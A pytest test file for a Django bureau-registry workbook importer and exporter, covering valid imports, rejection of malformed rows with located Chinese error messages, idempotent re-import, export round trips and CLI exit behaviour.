"""The bureau workbook on PostgreSQL: every sheet imported, every kind of bad row refused with nothing written,
Chinese headers, XLSX and CSV, idempotent re-import, export → import, the CLI's exit code and progress."""
from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import translation

from assets.models import Asset, ChangeRecord, CustodyEvent, OrgUnit, Person, PersonHistory
from workbook import Progress, WorkbookError, export_workbook, import_workbook
from workbook.schema import SHEETS_BY_KEY
from quartermaster.context import change_context
from telematics.models import DutySchedule, Holiday, TerminalBinding, Trip, Vehicle, VehicleHistory, VehicleSeal

HEADERS = {key: [c.key for c in sheet.columns] for key, sheet in SHEETS_BY_KEY.items()}

# A small bureau in SPEC's English headers; every column of every sheet is used at least once.
BASE = {
    "units": [
        ["CZ", "常州市城市管理局", "bureau", "", 5300000, "", "", ""],
        ["CZ-ZD", "常州市城市管理行政执法支队", "detachment", "CZ", "", "", "", ""],
        ["CZ-TN", "天宁大队", "brigade", "CZ-ZD", 700000, 31.7801, 119.9502, 120],
        ["CZ-TN-01", "天宁一中队", "squadron", "CZ-TN", "", 31.7755, 119.9611, ""],
        ["CZ-BGS", "办公室", "office", "CZ", "", "", "", ""],
    ],
    "personnel": [
        ["P001", "张三", "CZ-TN-01", "officer", "yes", "active", "JS0001", "2030-01-01", "320401001"],
        ["P002", "王五", "CZ-TN", "officer", "no", "transferred", "JS0002", "2029-06-30", "320401002"],
        ["A001", "李四", "CZ-TN-01", "auxiliary", "yes", "active", "", "", ""],
    ],
    "assets": [
        ["U-001", "uniform", "春秋执勤服", "CZ-TN-01", "P001", "issued", "", "XZ-1", "175/92A", "2024-03-01", 4],
        ["C-002", "certificate", "行政执法证", "CZ-TN", "P002", "issued", "JS0002", "", "", "2023-01-05", ""],
        ["R-001", "radio", "对讲机", "CZ-TN-01", "A001", "issued", "SN-R1", "GP328", "", "2025-05-01", 6],
        ["R-002", "radio", "对讲机", "CZ-TN-01", "", "in_stock", "SN-R2", "GP328", "", "2025-05-01", 6],
        ["REC-01", "recorder", "执法记录仪", "CZ-TN-01", "", "issued", "SN-REC1", "DSJ-1", "", "2025-01-10", 5],
        ["CAM-01", "camera", "摄像机", "CZ-TN", "", "in_repair", "", "", "", "2022-08-01", ""],
        ["PR-01", "protective", "防刺背心", "CZ-TN-01", "P001", "lost", "", "", "L", "2024-01-01", ""],
        ["OF-01", "office", "计算机", "CZ-BGS", "", "retired", "", "", "", "2015-01-01", 6],
        ["ST-01", "storage", "移动硬盘", "CZ-TN", "CZ-TN-01", "issued", "", "", "", "2025-01-01", ""],
    ],
    "vehicles": [
        ["苏D·A0001", "CZ-TN", 5, "LSVAA4187E2000001", "轿车", "T0001", "yes", "in_service", "2022-01-01",
         "2027-01-01", "2027-03-01", "", ""],
        ["苏D·A0002", "CZ-TN-01", 7, "LSVAA4187E2000002", "SUV", "", "no", "in_repair", "2021-05-01",
         "2026-12-31", "", "2026-09-30", "2026-10-08"],
    ],
    "duty_schedules": [
        ["CZ-TN", "1-5", "08:00", "17:30"],
        ["CZ-TN-01", "1,2,3,4,5,6", "07:30", "19:00"],
    ],
    "holidays": [
        ["2026-10-01", "holiday", "国庆节"],
        ["2026-09-27", "workday", "国庆调休"],
    ],
    "trips": [
        ["苏D·A0001", "2026-11-20T09:00", "2026-11-20T12:00+08:00", "市局开会", 31.78, 119.95, "赵队长"],
        ["苏D·A0002", "2026-11-21T14:00", "2026-11-21T16:00", "巡查", "", "", ""],
    ],
}


def write(path: Path, sheets: dict[str, list[list]], *, headers: dict[str, list[str]] | None = None,
          names: dict[str, str] | None = None) -> Path:
    """Writes a workbook the way a bureau would (openpyxl, or plain csv files), independent of the exporter."""
    headers = headers or HEADERS
    names = names or {}
    if path.suffix == ".xlsx":
        book = openpyxl.Workbook()
        book.remove(book.active)
        for key, rows in sheets.items():
            ws = book.create_sheet(names.get(key, key))
            ws.append(headers[key])
            for row in rows:
                ws.append([None if v == "" else v for v in row])
        book.save(path)
        return path
    path.mkdir(parents=True, exist_ok=True)
    for key, rows in sheets.items():
        with open(path / f"{names.get(key, key)}.csv", "w", encoding="utf-8", newline="") as handle:
            out = csv.writer(handle)
            out.writerow(headers[key])
            out.writerows([["" if v is None else v for v in row] for row in rows])
    return path


def base() -> dict[str, list[list]]:
    return copy.deepcopy(BASE)


def run_import(path: Path, **kwargs):
    with change_context(source="import", username="tester"):
        return import_workbook(path, **kwargs)


def registry_counts() -> dict[str, int]:
    models = (OrgUnit, Person, PersonHistory, Asset, CustodyEvent, ChangeRecord, Vehicle, VehicleHistory,
              TerminalBinding, DutySchedule, Holiday, Trip, VehicleSeal)
    return {m.__name__: m.objects.count() for m in models}


# --- a valid workbook ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("form", ["bureau.xlsx", "bureau-csv"])
def test_every_sheet_is_imported(db, tmp_path, form):
    result = run_import(write(tmp_path / form, base()))

    # 9 asset rows, and what personnel shorthand stands for: P001's certificate JS0001 and the 胸号 plates of P001
    # and P002 (P002's certificate JS0002 is the assets row C-002, whose serial is that number).
    assert {k: c.created for k, c in result.counts.items()} == {
        "units": 5, "personnel": 3, "assets": 12, "vehicles": 2, "duty_schedules": 2, "holidays": 2, "trips": 2}
    tn = OrgUnit.objects.get(code="CZ-TN")
    assert (tn.name, tn.kind, tn.parent.code, tn.population) == ("天宁大队", "brigade", "CZ-ZD", 700000)
    assert OrgUnit.objects.get(code="CZ").parent is None
    assert OrgUnit.objects.get(code="CZ-ZD").population is None
    assert OrgUnit.objects.get(code="CZ-TN-01").path.startswith(OrgUnit.objects.get(code="CZ").path)
    assert tn.depot == (31.7801, 119.9502, 120.0)
    assert OrgUnit.objects.get(code="CZ-TN-01").depot == (31.7755, 119.9611, 100.0)  # the default radius
    assert OrgUnit.objects.get(code="CZ").depot is None

    p1 = Person.objects.get(staff_no="P001")
    assert (p1.name, p1.unit.code, p1.role, p1.frontline, p1.status, p1.cert_no, p1.cert_expires, p1.badge_no) == (
        "张三", "CZ-TN-01", "officer", True, "active", "JS0001", dt.date(2030, 1, 1), "320401001")
    assert Person.objects.get(staff_no="P002").status == "transferred"
    aux = Person.objects.get(staff_no="A001")
    assert (aux.role, aux.badge_no, aux.cert_no) == ("auxiliary", None, "")

    uniform = Asset.objects.get(tag="U-001")
    assert (uniform.category_id, uniform.item, uniform.unit.code, uniform.status, uniform.holder_person, uniform.model,
            uniform.size, uniform.acquired, uniform.service_years) == (
        "uniform", "春秋执勤服", "CZ-TN-01", "issued", p1, "XZ-1", "175/92A", dt.date(2024, 3, 1), 4)
    # A departed officer still holding a certificate is recorded as it stands (return-on-departure reports it).
    assert Asset.objects.get(tag="C-002").holder_person.staff_no == "P002"
    assert Asset.objects.get(tag="R-002").status == "in_stock"
    recorder = Asset.objects.get(tag="REC-01")
    assert (recorder.status, recorder.holder_unit.code) == ("issued", "CZ-TN-01")  # issued, nobody named: its unit
    assert Asset.objects.get(tag="ST-01").holder_unit.code == "CZ-TN-01"
    assert Asset.objects.get(tag="CAM-01").status == "in_repair"
    lost = Asset.objects.get(tag="PR-01")
    assert (lost.status, lost.holder_person) == ("lost", None)
    assert lost.events.get(action="report_lost").person == p1
    assert Asset.objects.get(tag="OF-01").status == "retired"

    car = Vehicle.objects.get(plate="苏D·A0001")
    assert (car.unit.code, car.seats, car.vin, car.vehicle_type, car.terminal_id, car.livery_compliant, car.status,
            car.acquired, car.insurance_expires, car.inspection_expires) == (
        "CZ-TN", 5, "LSVAA4187E2000001", "轿车", "T0001", True, "in_service", dt.date(2022, 1, 1),
        dt.date(2027, 1, 1), dt.date(2027, 3, 1))
    van = Vehicle.objects.get(plate="苏D·A0002")
    assert (van.terminal_id, van.livery_compliant, van.status, van.inspection_expires) == (
        None, False, "in_repair", None)
    assert list(van.seals.values_list("sealed_from", "sealed_to")) == [(dt.date(2026, 9, 30), dt.date(2026, 10, 8))]
    assert not car.seals.exists()
    # Written through the fleet's services: the file has its history and the terminal its binding.
    assert car.history.filter(effective=dt.date(2022, 1, 1), unit=tn, status="in_service").exists()
    assert TerminalBinding.objects.get(terminal_id="T0001", unbound_at__isnull=True).vehicle == car

    assert sorted(DutySchedule.objects.values_list("unit__code", "weekdays", "start", "end")) == [
        ("CZ-TN", "1,2,3,4,5", dt.time(8), dt.time(17, 30)),
        ("CZ-TN-01", "1,2,3,4,5,6", dt.time(7, 30), dt.time(19))]
    assert sorted(Holiday.objects.values_list("date", "kind", "name")) == [
        (dt.date(2026, 9, 27), "workday", "国庆调休"), (dt.date(2026, 10, 1), "holiday", "国庆节")]
    signed = Trip.objects.get(vehicle=car)
    shanghai = dt.timezone(dt.timedelta(hours=8))
    assert (signed.start, signed.end, signed.purpose, signed.dest_lat, signed.dest_lon, signed.approved_by,
            signed.status) == (dt.datetime(2026, 11, 20, 9, tzinfo=shanghai),
                               dt.datetime(2026, 11, 20, 12, tzinfo=shanghai), "市局开会", 31.78, 119.95, "赵队长",
                               "approved")
    unsigned = Trip.objects.get(vehicle=van)
    assert (unsigned.status, unsigned.dest_lat) == ("requested", None)


def test_an_issued_asset_with_a_holder_records_an_issue_event(db, tmp_path):
    run_import(write(tmp_path / "b.xlsx", base()))
    uniform = Asset.objects.get(tag="U-001")
    actions = list(uniform.events.order_by("occurred_at", "id").values_list("action", "person__staff_no",
                                                                           "status_after"))
    assert actions == [("receive", None, "in_stock"), ("issue", "P001", "issued")]
    issue = uniform.events.get(action="issue")
    assert (issue.holder_person_after.staff_no, issue.source, issue.username) == ("P001", "import", "tester")
    # Received when acquired, so a report "as of" an earlier date does not count it.
    assert uniform.events.get(action="receive").occurred_at.date() == dt.date(2024, 2, 29)  # 00:00 +08:00
    assert ChangeRecord.objects.filter(object_id=str(uniform.pk), source="import", action="create").count() == 1


def test_re_import_changes_nothing(db, tmp_path):
    path = write(tmp_path / "b.xlsx", base())
    run_import(path)
    before = registry_counts()
    result = run_import(path)
    assert registry_counts() == before
    assert result.events == 0 and result.change_records == 0
    assert all(c.created == c.updated == c.deleted == 0 for c in result.counts.values()), result.summary()
    assert result.counts["assets"].unchanged == 9


def test_a_changed_row_is_an_update_through_the_ledger(db, tmp_path):
    sheets = base()
    run_import(write(tmp_path / "one.xlsx", sheets))
    sheets["assets"][3][4:6] = ["P001", "issued"]    # R-002 in stock -> issued to P001
    sheets["assets"][0][4:6] = ["", "in_stock"]      # U-001 returned
    sheets["vehicles"][1][1] = "CZ-TN"                # the van moves to the brigade
    sheets["personnel"][0][5] = "suspended"
    events = CustodyEvent.objects.count()
    result = run_import(write(tmp_path / "two.xlsx", sheets))
    assert result.counts["assets"].updated == 2 and result.counts["assets"].unchanged == 7
    assert CustodyEvent.objects.count() == events + 2
    assert Asset.objects.get(tag="R-002").events.latest("id").action == "issue"
    assert Asset.objects.get(tag="U-001").events.latest("id").action == "return"
    van = Vehicle.objects.get(plate="苏D·A0002")
    assert van.unit.code == "CZ-TN" and van.history.filter(change="transfer").exists()
    assert Person.objects.get(staff_no="P001").status == "suspended"


def test_chinese_headers_and_values(db, tmp_path):
    zh_headers = {key: [c.zh for c in sheet.columns] for key, sheet in SHEETS_BY_KEY.items()}
    zh_names = {key: sheet.zh for key, sheet in SHEETS_BY_KEY.items()}
    sheets = base()
    sheets["units"][2][2] = "大队"
    sheets["personnel"][0][3:6] = ["执法人员", "是", "在岗"]
    sheets["personnel"][2][3:6] = ["协管人员", "是", "在岗"]
    sheets["assets"][0][1] = "制式服装"
    sheets["assets"][3][5] = "在库"
    sheets["vehicles"][0][6] = "是"
    result = run_import(write(tmp_path / "台账.xlsx", sheets, headers=zh_headers, names=zh_names))
    assert result.counts["assets"].created == 12 and result.counts["trips"].created == 2
    assert OrgUnit.objects.get(code="CZ-TN").kind == "brigade"
    p1 = Person.objects.get(staff_no="P001")
    assert (p1.role, p1.frontline, p1.status) == ("officer", True, "active")
    assert Person.objects.get(staff_no="A001").role == "auxiliary"
    assert Asset.objects.get(tag="U-001").category_id == "uniform"
    assert Asset.objects.get(tag="R-002").status == "in_stock"
    assert Vehicle.objects.get(plate="苏D·A0001").livery_compliant is True
    # The same bureau in English headers is the same registry: nothing to change.
    again = run_import(write(tmp_path / "en.xlsx", base()))
    assert again.events == 0 and again.change_records == 0


def test_depots_and_seals_are_updated_by_a_later_workbook_and_left_alone_without_their_columns(db, tmp_path):
    run_import(write(tmp_path / "a.xlsx", base()))
    sheets = base()
    sheets["units"][2][5:8] = [31.79, 119.96, 200]
    sheets["units"][3][5:8] = ["", "", ""]
    sheets["vehicles"][1][11:13] = ["2026-09-30", "2026-10-05"]  # the same period, ended earlier
    sheets["vehicles"][0][11:13] = ["2027-02-10", "2027-02-17"]  # the Spring Festival
    result = run_import(write(tmp_path / "b.xlsx", sheets))
    assert (result.counts["units"].updated, result.counts["vehicles"].updated) == (2, 2)
    assert OrgUnit.objects.get(code="CZ-TN").depot == (31.79, 119.96, 200.0)
    assert OrgUnit.objects.get(code="CZ-TN-01").depot is None
    assert sorted(VehicleSeal.objects.values_list("vehicle__plate", "sealed_from", "sealed_to")) == [
        ("苏D·A0001", dt.date(2027, 2, 10), dt.date(2027, 2, 17)), ("苏D·A0002", dt.date(2026, 9, 30), dt.date(2026, 10, 5))]
    without = {"units": [row[:5] for row in sheets["units"]], "vehicles": [row[:11] for row in sheets["vehicles"]]}
    headers = {"units": HEADERS["units"][:5], "vehicles": HEADERS["vehicles"][:11]}
    again = run_import(write(tmp_path / "c.xlsx", without, headers=headers))
    assert again.counts["units"].updated == 0 and again.counts["vehicles"].updated == 0
    assert OrgUnit.objects.get(code="CZ-TN").depot == (31.79, 119.96, 200.0) and VehicleSeal.objects.count() == 2


def test_a_missing_sheet_imports_nothing_of_it(db, tmp_path):
    sheets = base()
    run_import(write(tmp_path / "full.xlsx", sheets))
    before = registry_counts()
    del sheets["assets"], sheets["vehicles"], sheets["trips"]
    result = run_import(write(tmp_path / "part", sheets))
    # What the workbook leaves out is neither imported nor deleted.
    assert set(result.counts) == {"units", "personnel", "duty_schedules", "holidays"}
    assert registry_counts() == before


def test_a_personnel_sheet_without_the_shorthand_columns_leaves_certificates_and_badges_as_they_are(db, tmp_path):
    """cert_no / cert_expires / badge_no are shorthand: a sheet without those columns was read as empty cells, so it
    cleared every certificate number and was refused for every badge (an error naming a column not in the file)."""
    run_import(write(tmp_path / "a.xlsx", base()))
    before = registry_counts()
    columns = ["staff_no", "name", "unit", "role", "frontline", "status"]
    people = [row[:6] for row in base()["personnel"]]
    result = run_import(write(tmp_path / "people.xlsx", {"personnel": people}, headers={"personnel": columns}))
    assert (result.counts["personnel"].unchanged, result.change_records) == (3, 0)
    assert registry_counts() == before
    p1 = Person.objects.get(staff_no="P001")
    assert (p1.cert_no, p1.cert_expires, p1.badge_no) == ("JS0001", dt.date(2030, 1, 1), "320401001")
    people[0][4] = "no"  # a real change still goes through
    run_import(write(tmp_path / "people2.xlsx", {"personnel": people}, headers={"personnel": columns}))
    p1.refresh_from_db()
    assert (p1.frontline, p1.cert_no, p1.badge_no) == (False, "JS0001", "320401001")


def test_a_workbook_with_only_some_sheets_imports_those(db, tmp_path):
    sheets = base()
    result = run_import(write(tmp_path / "units.xlsx", {"units": sheets["units"]}))
    assert set(result.counts) == {"units"}
    assert OrgUnit.objects.count() == 5 and Person.objects.count() == 0 and Vehicle.objects.count() == 0


# --- bad rows ----------------------------------------------------------------------------------------------

# (sheet, data row index, column, bad value, reason fragment). The error must name the sheet, the row as the
# file numbers it (header = row 1), the column as the header names it, and the reason.
BAD_CELLS = [
    ("units", 1, "code", "", "code 为必填项"),   # + CZ-TN's parent CZ-ZD is now unknown
    ("units", 1, "code", "CZ/ZD", "不能含有“/”"),
    ("units", 1, "kind", "county", "未知的单位类型“county”"),
    ("units", 1, "kind", "", "单位类型为必填项"),
    ("units", 1, "parent", "XX", "没有代码为 XX 的单位"),
    ("units", 0, "parent", "CZ-TN", "单位的上下级形成循环"),
    ("units", 2, "population", "many", "应为整数"),
    ("units", 2, "population", "-5", "至少应为 0"),
    ("units", 3, "code", "CZ-TN", "出现了两次（另见第 4 行）"),
    ("units", 1, "name", "长" * 300, "最多"),
    ("personnel", 0, "staff_no", "", "staff_no 为必填项"),
    ("personnel", 0, "name", "", "name 为必填项"),
    ("personnel", 0, "unit", "CZ-NOPE", "没有代码为 CZ-NOPE 的单位"),
    ("personnel", 0, "role", "boss", "未知的角色“boss”"),
    ("personnel", 0, "frontline", "maybe", "应为是或否"),
    ("personnel", 0, "status", "fired", "未知的人员状态“fired”"),
    ("personnel", 0, "cert_expires", "2030-13-01", "日期“2030-13-01”有误"),
    ("personnel", 1, "staff_no", "P001", "出现了两次（另见第 2 行）"),
    ("personnel", 1, "badge_no", "320401001", "胸号 320401001 与第 2 行"),
    ("personnel", 0, "cert_no", "", "填写了执法证有效期，却没有执法证号"),
    ("personnel", 1, "cert_no", "JS0001", "执法证号 JS0001 与第 2 行（张三（工号 P001））重复"),  # one tag, two people
    ("assets", 0, "tag", "", "tag 为必填项"),
    ("assets", 0, "category", "weapon", "未知的装备类别“weapon”"),
    ("assets", 0, "unit", "CZ-NOPE", "没有代码为 CZ-NOPE 的单位"),
    ("assets", 0, "holder", "P999", "没有工号为 P999 的人员"),
    ("assets", 3, "holder", "P001", "只有已发放（或遗失）的装备才有持有人"),
    ("assets", 0, "status", "borrowed", "未知的装备状态“borrowed”"),
    ("assets", 0, "acquired", "2099-01-01", "在今天之后"),
    ("assets", 0, "acquired", "01/03/2024", "日期“01/03/2024”有误"),
    ("assets", 0, "acquired", "2024-03-01T10:30", "却是日期和时间"),
    ("assets", 0, "service_years", "four", "应为整数"),
    ("assets", 1, "tag", "U-001", "出现了两次（另见第 2 行）"),
    ("vehicles", 0, "plate", "", "plate 为必填项"),
    ("vehicles", 0, "unit", "CZ-NOPE", "没有代码为 CZ-NOPE 的单位"),
    ("vehicles", 0, "seats", "", "seats 为必填项"),
    ("vehicles", 0, "seats", "0", "至少应为 1"),
    ("vehicles", 0, "livery", "blue", "应为是或否"),
    ("vehicles", 0, "status", "lent", "未知的车辆状态“lent”"),
    ("vehicles", 0, "vin", "X" * 20, "最多 17 个"),
    ("vehicles", 0, "insurance_expires", "soon", "日期“soon”有误"),
    ("vehicles", 1, "plate", "苏D·A0001", "出现了两次（另见第 2 行）"),
    ("vehicles", 1, "terminal_id", "T0001", "终端 T0001 也在第 2 行"),
    ("vehicles", 1, "sealed_from", "", "请同时填写 sealed_from 和 sealed_to"),
    ("vehicles", 1, "sealed_to", "2026-09-01", "早于 sealed_from 2026-09-30"),
    ("vehicles", 1, "sealed_to", "National Day", "日期“National Day”有误"),
    ("units", 3, "depot_lat", "", "请同时填写 depot_lat 和 depot_lon"),
    ("units", 3, "depot_lon", "200", "超出范围"),
    ("units", 2, "depot_radius_m", "-5", "应为正数"),
    ("units", 1, "depot_radius_m", "80", "设置车场半径须先填写车场的 depot_lat 和 depot_lon"),
    ("duty_schedules", 0, "unit", "CZ-NOPE", "没有代码为 CZ-NOPE 的单位"),
    ("duty_schedules", 0, "weekdays", "Mon-Fri", "星期“Mon-Fri”有误"),
    ("duty_schedules", 0, "weekdays", "5-1", "是倒序的"),
    ("duty_schedules", 0, "start", "25:00", "时刻“25:00”有误"),
    ("duty_schedules", 0, "end", "", "end 为必填项"),
    ("holidays", 0, "date", "2026-02-30", "日期“2026-02-30”有误"),
    ("holidays", 0, "kind", "party", "未知的节假日类型“party”"),
    ("holidays", 1, "date", "2026-10-01", "出现了两次（另见第 2 行）"),
    ("trips", 0, "plate", "苏D·XXXXX", "没有车牌号为 苏D·XXXXX 的车辆"),
    ("trips", 0, "start", "2026-11-20", "应为带时刻的 ISO 8601 格式"),
    ("trips", 0, "end", "2026-11-20T08:00", "不晚于开始"),
    ("trips", 0, "purpose", "", "purpose 为必填项"),
    ("trips", 0, "dest_lat", "95", "超出范围"),
    ("trips", 0, "dest_lon", "", "请同时填写 dest_lat 和 dest_lon"),
    ("trips", 1, "start", "2026-11-20T09:00+08:00", None),  # see below: same vehicle and start as row 2
]


def _bad_case_id(case):
    return f"{case[0]}-{case[2]}-{case[4] or 'dup'}"[:60]


@pytest.mark.parametrize("case", BAD_CELLS, ids=_bad_case_id)
def test_a_bad_row_is_refused_with_its_place_and_nothing_is_imported(db, tmp_path, case):
    sheet, index, column, value, reason = case
    sheets = base()
    sheets[sheet][index][HEADERS[sheet].index(column)] = value
    if case[-1] is None:  # a second trip of the same vehicle starting at the same moment
        sheets["trips"][1][0] = "苏D·A0001"
        reason = "在此时刻已有一张派车单（第 2 行）"
    before = registry_counts()
    with pytest.raises(WorkbookError) as caught:
        run_import(write(tmp_path / "bad.xlsx", sheets))
    first, *rest = caught.value.errors
    assert (first.sheet, first.row, first.column) == (sheet, index + 2, column), caught.value.errors
    assert reason in first.reason, first.reason
    # A row whose key is gone or repeated leaves the rows that refer to it dangling: those are listed too.
    assert all(e.reason.startswith("没有") or reason in e.reason for e in rest), rest
    if column not in ("code", "staff_no", "tag", "plate", "parent"):
        assert rest == []
    assert registry_counts() == before == {k: 0 for k in before}


def test_every_error_is_listed_at_once_and_nothing_is_written(db, tmp_path):
    sheets = base()
    sheets["units"][4][2] = "county"
    sheets["personnel"][1][4] = "maybe"
    sheets["assets"][2][1] = "weapon"
    sheets["assets"][5][9] = "yesterday"
    sheets["trips"][1][0] = "苏D·ZZZZZ"
    with pytest.raises(WorkbookError) as caught:
        run_import(write(tmp_path / "bad", sheets))
    listed = [(e.sheet, e.row, e.column) for e in caught.value.errors]
    assert listed == [("units.csv", 6, "kind"), ("personnel.csv", 3, "frontline"), ("assets.csv", 4, "category"),
                      ("assets.csv", 7, "acquired"), ("trips.csv", 3, "plate")]
    assert "工作簿中有 5 处错误，未导入任何数据" in str(caught.value)
    assert str(caught.value.errors[0]) == ("units.csv，第 6 行，kind 列：未知的单位类型“county”，应为以下之一："
                                           "brigade, bureau, detachment, office, squadron")
    assert OrgUnit.objects.count() == 0


def test_bad_rows_against_the_registry(db, tmp_path):
    sheets = base()
    run_import(write(tmp_path / "one.xlsx", sheets))
    sheets["assets"][7][5] = "in_stock"               # OF-01 is retired in the registry
    sheets["personnel"][0][8] = "320409999"           # a badge number is bound for the officer's service
    sheets["units"].append(["CZ-XB", "新北大队", "brigade", "CZ-ZD", 800000])
    sheets["vehicles"].append(["苏D·A0003", "CZ-XB", 5, "", "", "T0001", "no", "in_service", "", "", ""])
    before = registry_counts()
    with pytest.raises(WorkbookError) as caught:
        run_import(write(tmp_path / "two.xlsx", sheets))
    by_column = {(e.sheet, e.row, e.column): e.reason for e in caught.value.errors}
    assert "报废的装备不能再变为在库" in by_column[("assets", 9, "status")]
    assert "不能改为 320409999" in by_column[("personnel", 2, "badge_no")]
    assert "终端 T0001 也在第 2 行" in by_column[("vehicles", 4, "terminal_id")]
    assert len(by_column) == 3
    assert registry_counts() == before
    assert not OrgUnit.objects.filter(code="CZ-XB").exists()


def test_a_retired_vehicle_does_not_return_to_service(db, tmp_path):
    sheets = base()
    sheets["vehicles"][1][7] = "retired"
    sheets["vehicles"][1][5] = ""
    run_import(write(tmp_path / "one.xlsx", sheets))
    sheets["vehicles"][1][7] = "in_service"
    before = registry_counts()
    with pytest.raises(WorkbookError) as caught:
        run_import(write(tmp_path / "two.xlsx", sheets))
    assert [(e.sheet, e.row, e.column) for e in caught.value.errors] == [("vehicles", 3, "status")]
    assert "已报废" in caught.value.errors[0].reason
    assert registry_counts() == before


@pytest.mark.parametrize("problem, where, reason", [
    ("missing column", ("assets", 1, "unit"), "缺少必填列 unit（单位）"),
    ("duplicate column", ("personnel", 1, "单位"), "列 unit 出现了两次"),
    ("duplicate sheet", ("单位", 0, ""), "“units”和“单位”都是 units 工作表"),
])
def test_a_bad_file_layout_is_refused(db, tmp_path, problem, where, reason):
    sheets = base()
    headers = copy.deepcopy(HEADERS)
    names = {}
    if problem == "missing column":
        headers["assets"] = [h if h != "unit" else "place" for h in headers["assets"]]
    elif problem == "duplicate column":
        headers["personnel"] = headers["personnel"] + ["单位"]
        sheets["personnel"] = [row + [row[2]] for row in sheets["personnel"]]
    path = write(tmp_path / "bad.xlsx", sheets, headers=headers, names=names)
    if problem == "duplicate sheet":
        book = openpyxl.load_workbook(path)
        book.create_sheet("单位").append(HEADERS["units"])
        book.save(path)
    with pytest.raises(WorkbookError) as caught:
        run_import(path)
    assert [(e.sheet, e.row, e.column) for e in caught.value.errors] == [where]
    assert reason in caught.value.errors[0].reason
    assert OrgUnit.objects.count() == 0


def test_a_csv_that_is_not_utf8_is_refused(db, tmp_path):
    folder = write(tmp_path / "gbk", base())
    (folder / "personnel.csv").write_bytes(
        "staff_no,name,unit,role\nP001,张三,CZ-TN-01,officer\n".encode("gb18030"))
    with pytest.raises(WorkbookError) as caught:
        run_import(folder)
    assert caught.value.errors[0].sheet == "personnel.csv"
    assert "不是 UTF-8 文本" in caught.value.errors[0].reason
    assert OrgUnit.objects.count() == 0


def test_excel_cell_types_are_read_as_written(db, tmp_path):
    """Numbers, real dates and times as Excel stores them (not text) are read like their ISO text."""
    sheets = base()
    sheets["personnel"].append([10023, "赵六", "CZ-TN-01", "officer", "yes", "active", "", "", ""])  # a number
    sheets["assets"][0][4] = 10023
    sheets["assets"][0][9] = dt.date(2024, 3, 1)
    sheets["duty_schedules"][0][2:4] = [dt.time(8), dt.time(17, 30)]
    sheets["trips"][0][1] = dt.datetime(2026, 11, 20, 9, 0)
    run_import(write(tmp_path / "typed.xlsx", sheets))
    assert Asset.objects.get(tag="U-001").holder_person.staff_no == "10023"
    assert Asset.objects.get(tag="U-001").acquired == dt.date(2024, 3, 1)
    assert DutySchedule.objects.filter(unit__code="CZ-TN", start=dt.time(8), end=dt.time(17, 30)).exists()
    assert Trip.objects.get(purpose="市局开会").start == dt.datetime(2026, 11, 20, 1, 0, tzinfo=dt.UTC)


# --- export → import -----------------------------------------------------------------------------------------

def _read_back(path: Path) -> dict[str, list[tuple]]:
    if path.suffix == ".xlsx":
        book = openpyxl.load_workbook(path, read_only=True)
        return {ws.title: [tuple("" if v is None else str(v) for v in row) for row in ws.iter_rows(values_only=True)]
                for ws in book.worksheets}
    return {f.stem: [tuple(row) for row in csv.reader(open(f, encoding="utf-8"))] for f in sorted(path.iterdir())}


@pytest.mark.parametrize("target, headers", [("out.xlsx", "en"), ("out-csv", "zh")])
def test_export_then_import_reproduces_the_registry(db, tmp_path, target, headers):
    run_import(write(tmp_path / "b.xlsx", base()))
    before = registry_counts()
    out = export_workbook(tmp_path / target, headers=headers)
    exported = _read_back(out)
    units_sheet = "units" if headers == "en" else "单位"
    assert exported[units_sheet][0] == tuple(HEADERS["units"] if headers == "en"
                                             else [c.zh for c in SHEETS_BY_KEY["units"].columns])
    assert len(exported["assets" if headers == "en" else "装备"]) == 1 + 12  # with the shorthand items
    result = run_import(out)
    assert (result.events, result.change_records) == (0, 0), result.summary()
    assert all(c.created == c.updated == c.deleted == 0 for c in result.counts.values()), result.summary()
    assert registry_counts() == before


# --- the command line ----------------------------------------------------------------------------------------

def run_qm(*args: str, monkeypatch) -> int:
    """Runs the `qm` console script's entry point in this process and returns its exit status. Django closes
    every connection when a command ends; here that would end the test's transaction, so it is held open."""
    from django.db import connections

    from quartermaster import cli

    monkeypatch.setattr(connections, "close_all", lambda: None)
    try:
        cli.main([*args, "--skip-checks"])  # the project's system checks have their own tests
    except SystemExit as exc:
        return exc.code
    return 0


def test_cli_exits_non_zero_with_every_error_on_stderr(db, tmp_path, monkeypatch, capfd):
    sheets = base()
    sheets["assets"][0][4] = "P999"
    sheets["vehicles"][0][2] = "zero"
    status = run_qm("import", str(write(tmp_path / "bad.xlsx", sheets)), monkeypatch=monkeypatch)
    out, err = capfd.readouterr()
    assert status != 0
    assert "assets，第 2 行，holder 列：没有工号为 P999 的人员" in err
    assert "vehicles，第 2 行，seats 列：应为整数，却是“zero”" in err
    assert "工作簿中有 2 处错误，未导入任何数据" in err
    assert out == ""
    assert OrgUnit.objects.count() == 0
    assert run_qm("import", str(write(tmp_path / "good.xlsx", base())), monkeypatch=monkeypatch) == 0
    assert "assets：新增 12" in capfd.readouterr().out


@pytest.mark.parametrize("target", ["file/x.xlsx", "file", "folder.xlsx"])
def test_cli_export_to_a_path_it_cannot_write_says_why(db, tmp_path, monkeypatch, capfd, target):
    """A file where the folder should be, or a folder named like the workbook: the reason, no traceback (it used to
    be FileExistsError's, with openpyxl's half-written sheets complaining after it)."""
    (tmp_path / "file").write_text("")
    (tmp_path / "folder.xlsx").mkdir()
    status = run_qm("export", str(tmp_path / target), monkeypatch=monkeypatch)
    out, err = capfd.readouterr()
    assert status != 0 and out == ""
    assert "无法写入" in err and "Traceback" not in err and "Exception ignored" not in err
    assert (tmp_path / "folder.xlsx").is_dir() and (tmp_path / "file").read_text() == ""


def test_cli_missing_file_is_a_clear_error(db, tmp_path):
    with pytest.raises(CommandError, match="不存在"):
        call_command("import", str(tmp_path / "nope.xlsx"))
    (tmp_path / "notes.txt").write_text("hello")
    with pytest.raises(CommandError, match=r"应为 \.xlsx 文件或 CSV 文件夹"):
        call_command("import", str(tmp_path / "notes.txt"))


def test_cli_export_that_cannot_write_exits_non_zero_with_the_reason_not_a_traceback(db, tmp_path, monkeypatch,
                                                                                       capfd):
    run_import(write(tmp_path / "b.xlsx", base()))
    (tmp_path / "notes.txt").write_text("hello")
    for target in (tmp_path / "notes.txt", tmp_path / "notes.txt" / "b.xlsx"):  # a file where the folder goes
        assert run_qm("export", str(target), monkeypatch=monkeypatch) != 0
        out, err = capfd.readouterr()
        assert f"无法写入 {target}：" in err and "Traceback" not in err and out == ""


